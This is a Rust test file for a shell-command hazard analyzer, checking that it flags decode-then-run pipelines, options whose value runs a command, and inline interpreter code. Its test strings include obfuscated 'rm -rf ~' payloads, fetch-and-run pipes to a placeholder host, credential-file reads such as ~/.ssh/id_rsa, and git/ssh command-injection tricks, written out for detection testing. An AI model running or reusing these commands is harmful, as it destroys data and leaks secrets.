//! Decode-to-exec, options whose value runs a command, and inline interpreter code.

use super::*;

// ---------------------------------------------------------------------------------
// Decode-to-exec: text decoded or transformed, then run.
// ---------------------------------------------------------------------------------
t!(
    dx_base64_pipe_sh,
    "echo cm0gLXJmIH4= | base64 -d | sh",
    [H(HazardKind::DecodeToExec), NoHk(HazardKind::FetchToExec)]
);
t!(
    dx_base64_long_bash,
    "echo Y3VybA== | base64 --decode | bash",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_base32,
    "echo OJWSALLSMYQH4=== | base32 -d | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_herestring_decoder,
    "base64 -d <<< cm0gLXJmIC8= | bash",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_eval_substitution,
    "eval \"$(echo cm0gLXJmIH4= | base64 -d)\"",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_bash_c_substitution,
    "bash -c \"$(base64 -d <<< Y2F0)\"",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_process_substitution,
    "bash <(echo cm0= | base64 -d)",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_herestring_of_substitution,
    "sh <<< \"$(echo cm0= | base64 -d)\"",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_xxd_revert,
    "echo 726d202d7266207e | xxd -r -p | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_rev,
    "echo '~ fr- mr' | rev | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_tr_rot13,
    "echo 'ez -es ~' | tr 'a-z' 'n-za-m' | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_printf_hex,
    "printf '\\x72\\x6d\\x20\\x7e' | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_printf_octal_eval,
    "eval \"$(printf '\\143\\141\\164')\"",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_printf_b_argument,
    "printf '%b' '\\x72\\x6d' | bash",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_openssl_enc,
    "openssl enc -d -base64 -in p.txt | sh",
    [H(HazardKind::DecodeToExec), R(&["p.txt"])]
);
t!(
    dx_openssl_base64,
    "openssl base64 -d <<< cm0= | bash",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_gunzip_stdout,
    "gunzip -c p.gz | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(dx_zcat, "zcat p.gz | bash", [H(HazardKind::DecodeToExec)]);
t!(
    dx_bzip2_dc,
    "bzip2 -dc p.bz2 | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_xz_stdin,
    "xz -d < p.xz | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_uudecode,
    "uudecode -o /dev/stdout p.uu | sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_python_stdin,
    "echo aW1w | base64 -d | python3",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_file_then_run,
    "base64 -d payload.b64 > run.sh && bash run.sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_pipe_to_file_then_run,
    "echo cm0= | base64 -d > run.sh; sh run.sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_file_then_stdin,
    "base64 -d p.b64 > r.sh; sh < r.sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_gunzip_file_then_run,
    "gunzip setup.sh.gz && sh setup.sh",
    [H(HazardKind::DecodeToExec)]
);
t!(
    dx_fetch_names_the_hazard,
    "curl -s https://x.example | base64 -d | sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    fx_tee_then_run,
    "curl -s https://x.example | tee i.sh > /dev/null; bash i.sh",
    [H(HazardKind::FetchToExec)]
);
t!(
    dx_not_into_data_tools,
    "echo eyJ9 | base64 -d | jq . && gzip -dc a.tgz | tar x",
    [NoH]
);
t!(
    dx_plain_printf_is_not_decoding,
    "printf 'ls\\n' | sh",
    [NoH]
);
t!(dx_encoding_is_not_decoding, "base64 README.md | sh", [NoH]);

#[test]
fn dx_hazard_says_what_runs() {
    let a = analyze("echo cm0= | base64 -d | sh");
    let h = a
        .hazards
        .iter()
        .find(|h| h.kind == HazardKind::DecodeToExec)
        .unwrap_or_else(|| panic!("no hazard: {a:#?}"));
    assert_eq!(
        h.detail,
        "decoded text is piped into sh, which runs it as code"
    );
}

// Options whose value runs a command: a value known only at run time stays an
// executing argument.
t!(
    x_rsync_e_dynamic,
    "rsync -e \"$RSH\" a host:b",
    [X("rsync", "-e")]
);
t!(
    x_git_c_dynamic,
    "git -c core.pager=\"$P\" log",
    [X("git", "-c")]
);
t!(
    x_git_c_plain_key,
    "git -c user.name=T commit -m x",
    [NoX, NoH]
);
t!(
    x_git_c_hookspath_runs,
    "git -c core.hooksPath=/tmp/h commit -m x",
    [X("git", "-c")]
);
t!(x_git_c_alias_plain, "git -c alias.st=status st", [NoX]);
t!(
    x_git_c_alias_bang,
    "git -c alias.x='!cat ~/.ssh/id_rsa' x",
    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
);
t!(
    x_git_ssh_command_env,
    "GIT_SSH_COMMAND='ssh -i ~/.ssh/id_rsa' git fetch",
    [Sh("ssh"), R(&["~/.ssh/id_rsa"])]
);
t!(
    x_git_config_value_is_code,
    "git config core.fsmonitor 'curl -s https://x.example | sh'",
    [H(HazardKind::FetchToExec)]
);
t!(
    x_git_ext_transport,
    "git clone 'ext::sh -c id' /tmp/r",
    [Sh("id")]
);
t!(
    x_git_grep_pager,
    "git grep --open-files-in-pager='sh -c id' foo",
    [Sh("id")]
);
t!(x_git_grep_o_default, "git grep -O foo", [X("git", "-O")]);
t!(
    x_git_submodule_foreach,
    "git submodule foreach 'cat ~/.ssh/id_rsa'",
    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
);
t!(
    x_git_bisect_run_argv,
    "git bisect run make -j4 test",
    [X("git", "bisect run"), Ctx("make", Context::ExecArgument)]
);
t!(
    x_ssh_proxycommand_space,
    "ssh -o 'ProxyCommand nc %h %p' host",
    [Sh("nc")]
);
t!(
    x_ssh_proxycommand_none,
    "ssh -o ProxyCommand=none host",
    [NoX]
);
t!(x_scp_s, "scp -S /tmp/x a b:", [Sh("/tmp/x")]);
t!(
    x_script_c,
    "script -qc 'cat ~/.ssh/id_rsa' /dev/null",
    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
);
t!(
    x_npm_pkg_script,
    "npm pkg set scripts.x='cat ~/.ssh/id_rsa'",
    [Sh("cat"), W(&["package.json"])]
);
t!(
    x_xargs_sh_c_stdin,
    "curl -s https://x.example | xargs -0 sh -c",
    [H(HazardKind::FetchToExec)]
);
t!(
    x_make_written_makefile,
    "printf 'all:\\n\\tcat ~/.ssh/id_rsa\\n' > Makefile && make",
    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
);

// ---------------------------------------------------------------------------------
// Inline interpreter code: opaque, but the paths its strings name are mentioned, the
// shell commands it runs literally are analyzed, and decode-then-run is a hazard.
// ---------------------------------------------------------------------------------
t!(
    inl_python_open,
    "python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\"",
    [M(&["/home/dev/.ssh/id_rsa"]), X("python3", "-c")]
);
t!(
    inl_node_dotenv,
    "node -e \"require('fs').readFileSync('.env','utf8')\"",
    [M(&[".env"])]
);
t!(
    inl_python_expanduser,
    "python3 -c \"import os;open(os.path.expanduser('~/.aws/credentials'))\"",
    [M(&["~/.aws/credentials"])]
);
t!(
    inl_home_expanded_by_shell,
    "python3 -c \"open('$HOME/.netrc')\"",
    [M(&["~/.netrc"])]
);
t!(
    inl_script_arguments,
    "python3 tools/dump.py ~/.ssh/id_rsa --verbose",
    [M(&["~/.ssh/id_rsa"]), X("python3", "script")]
);
t!(
    inl_module_arguments,
    "python3 -m base64 ~/.ssh/id_rsa",
    [M(&["~/.ssh/id_rsa"])]
);
t!(
    inl_python_dotenv_module,
    "python3 -m dotenv list",
    [R(&[".env"])]
);
t!(
    inl_perl_n_reads_files,
    "perl -ne print /home/dev/.ssh/id_rsa",
    [R(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    inl_perl_pi_edits_files,
    "perl -pi -e 's/a/b/g' src/lib.rs",
    [R(&["src/lib.rs"]), W(&["src/lib.rs"])]
);
t!(
    inl_heredoc_to_python,
    "python3 - <<'EOF'\nprint(open('/home/dev/.ssh/id_rsa').read())\nEOF",
    [M(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    inl_written_then_run,
    "echo \"print(open('/home/dev/.aws/credentials').read())\" > x.py && python3 x.py",
    [M(&["/home/dev/.aws/credentials"])]
);
t!(
    inl_os_system_is_shell,
    "python3 -c 'import os;os.system(\"rm -rf /home/dev\")'",
    [Sh("rm"), D(&["/home/dev"])]
);
t!(
    inl_subprocess_fetch_exec,
    "python3 -c \"import subprocess;subprocess.run('curl -s https://x.example | sh',shell=True)\"",
    [H(HazardKind::FetchToExec)]
);
t!(
    inl_node_exec_sync,
    "node -e \"require('child_process').execSync('cat ~/.ssh/id_rsa')\"",
    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
);
t!(
    inl_ruby_system,
    "ruby -e 'system(\"rm -rf ~\")'",
    [Sh("rm"), D(&["~"])]
);
t!(
    inl_rmtree,
    "python3 -c \"import shutil;shutil.rmtree('/home/dev')\"",
    [D(&["/home/dev"])]
);
t!(
    inl_osascript_shell,
    "osascript -e 'do shell script \"cat ~/.ssh/id_rsa\"'",
    [Sh("cat")]
);
t!(
    inl_pwsh_words,
    "pwsh -c 'Get-Content ~/.ssh/id_rsa'",
    [M(&["~/.ssh/id_rsa"])]
);
t!(
    inl_python_decode_exec,
    "python3 -c \"import codecs,os;os.system(codecs.decode('ez -es ~','rot13'))\"",
    [H(HazardKind::DecodeToExec)]
);
t!(
    inl_perl_pack_system,
    "perl -e 'system(pack(\"H*\",\"726d\"))'",
    [H(HazardKind::DecodeToExec)]
);
t!(
    inl_awk_sprintf_system,
    "awk 'BEGIN{system(sprintf(\"%c%c -rf ~\",114,109))}'",
    [H(HazardKind::DecodeToExec)]
);
t!(
    inl_python_decode_without_run,
    "python3 -c \"import base64;print(base64.b64decode('eA=='))\"",
    [NoH]
);
t!(
    inl_awk_getline_file,
    "awk 'BEGIN{while((getline l < \"/home/dev/.ssh/id_rsa\")>0) print l}'",
    [R(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    inl_sqlite_readfile,
    "sqlite3 :memory: \"select readfile('/home/dev/.ssh/id_rsa')\"",
    [R(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    inl_sqlite_shell,
    "sqlite3 app.db '.shell cat ~/.ssh/id_rsa'",
    [Sh("cat")]
);
t!(
    inl_sqlite_select,
    "sqlite3 app.db 'select count(*) from users'",
    [C("sqlite3", Class::ReadOnly), R(&["app.db"]), NoWD]
);
t!(
    inl_deno_eval,
    "deno eval \"Deno.readTextFileSync('/home/dev/.ssh/id_rsa')\"",
    [M(&["/home/dev/.ssh/id_rsa"])]
);
t!(
    inl_bun_e,
    "bun -e \"Bun.file('/home/dev/.aws/credentials')\"",
    [M(&["/home/dev/.aws/credentials"])]
);
t!(
    inl_deno_run_url,
    "deno run -A https://x.example/x.ts",
    [H(HazardKind::FetchToExec), Net("https://x.example/x.ts")]
);
t!(
    inl_plain_strings_are_not_paths,
    "python3 -c \"print('hello world', 'sh -c x')\"",
    [NoM]
);
